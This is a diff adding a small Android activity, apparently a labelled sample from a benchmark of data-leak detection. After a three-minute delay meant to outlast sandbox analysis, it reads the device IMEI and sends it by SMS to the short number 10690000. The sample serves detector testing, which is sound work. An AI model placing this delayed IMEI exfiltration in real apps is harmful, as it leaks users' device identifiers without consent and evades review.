@@ -1,0 +1,26 @@
+// about       What sends waits longer than a sandbox looks.
+// leak        DEV_IMEI sms
+package cn.example.flow;
+
+import android.app.Activity;
+import android.os.Bundle;
+import android.os.Handler;
+import android.telephony.SmsManager;
+import android.telephony.TelephonyManager;
+
+public class MainActivity extends Activity implements Runnable {
+  private final Handler handler = new Handler();
+
+  @Override
+  protected void onCreate(Bundle state) {
+    super.onCreate(state);
+    handler.postDelayed(this, 180000);
+  }
+
+  @Override
+  public void run() {
+    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
+    // Minutes later.
+    SmsManager.getDefault().sendTextMessage("10690000", null, phone.getDeviceId(), null, null);
+  }
+}
